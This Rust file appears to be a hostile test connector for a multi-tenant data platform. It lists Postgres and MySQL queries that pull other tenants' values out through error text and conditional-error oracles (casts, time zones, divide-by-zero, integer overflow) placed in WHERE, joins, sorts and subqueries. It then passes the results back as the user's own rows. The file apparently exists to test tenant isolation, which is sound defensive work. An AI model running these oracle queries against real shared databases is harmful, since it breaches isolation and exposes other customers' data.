//! Tries to learn other tenants' values from what the database says while it
//! evaluates this connector's expressions: an error whose text quotes a value
//! (a cast, a time zone), and an error that fires only when a condition holds
//! on some row (a yes/no oracle), in every position a planner might evaluate
//! before the tenant filter (WHERE, select list, join, sort, group, window,
//! subquery, a derived table the connector wraps around the governed table).
//! Everything it observes goes back out as rows of its user's own tenant.
use silo_sdk::sql;

/// Postgres forms. Its users' own notes are small integers, which every
/// expression here accepts; another tenant's note is not.
const POSTGRES: &[&str] = &[
    "SELECT id FROM orders WHERE note::int > 0",
    "SELECT id FROM orders WHERE (TIMESTAMPTZ '2020-01-01 00:00:00+00' AT TIME ZONE note) IS NOT NULL",
    "SELECT id FROM orders WHERE id = 4 AND note::int > 0",
    "SELECT id FROM (SELECT * FROM orders) o WHERE o.note::int > 0",
    "SELECT note::int FROM orders",
    "SELECT a.id FROM orders a JOIN orders b ON a.id = b.id AND b.note::int > 0",
    "SELECT a.id FROM orders a LEFT JOIN orders b ON b.note::int = a.id",
    "SELECT id FROM orders ORDER BY note::int",
    "SELECT count(*) FROM orders GROUP BY note::int",
    "SELECT sum(id) OVER (PARTITION BY note::int) FROM orders",
    "SELECT (SELECT max(note::int) FROM orders)",
    "SELECT 1 WHERE EXISTS (SELECT 1 FROM orders WHERE note::int > 0)",
    "SELECT o.id FROM orders o, LATERAL (SELECT o.note::int AS n) x",
    "SELECT id FROM orders WHERE CASE WHEN note LIKE 'Europe/%' THEN 1 / 0 ELSE 1 END = 1",
    "SELECT id FROM orders WHERE CASE WHEN substr(note, 8, 1) = 'G' THEN 1 / 0 ELSE 1 END = 1",
];

/// MySQL / MariaDB forms: casts there only warn, so the oracle is an error
/// that fires on a condition (BIGINT overflow), and a subquery's cardinality.
const MYSQL: &[&str] = &[
    "SELECT id FROM orders WHERE (note LIKE 'Europe/%') * 9223372036854775807 * 2 = 0",
    "SELECT id FROM orders WHERE (substr(note, 8, 1) = 'G') * 9223372036854775807 * 2 = 0",
    "SELECT id FROM (SELECT * FROM orders) o WHERE (o.note LIKE 'E%') * 9223372036854775807 * 2 = 0",
    "SELECT (note LIKE 'Europe/%') * 9223372036854775807 * 2 FROM orders",
    "SELECT a.id FROM orders a JOIN orders b ON a.id = b.id AND (b.note LIKE 'E%') * 9223372036854775807 * 2 = 0",
    "SELECT id FROM orders ORDER BY (note LIKE 'E%') * 9223372036854775807 * 2",
    "SELECT count(*) FROM orders GROUP BY (note LIKE 'E%') * 9223372036854775807 * 2",
    "SELECT id FROM orders o WHERE o.id = (SELECT p.id FROM orders p WHERE length(p.note) > 5)",
    "SELECT id FROM orders WHERE id = 4 AND (note LIKE 'E%') * 9223372036854775807 * 2 = 0",
    "SELECT count(*) FROM orders WHERE length(note) > 5",
];

silo_guest_common::hostile_connector!(SqlErrorOracle, |request| {
    // One statement tells the dialect (a fetch may send sixteen).
    let attacks = match sql::query("SELECT CAST(1 AS SIGNED)", &[]) {
        Ok(_) => MYSQL,
        Err(_) => POSTGRES,
    };
    // Each attack reads the dataset being fetched.
    let observations = attacks
        .iter()
        .map(|stmt| {
            let stmt = stmt.replace("orders", &request.dataset);
            format!(
                "{stmt} => {}",
                silo_guest_common::observe(sql::query(&stmt, &[]))
            )
        })
        .collect();
    silo_guest_common::exfiltrate(&request, observations)
});
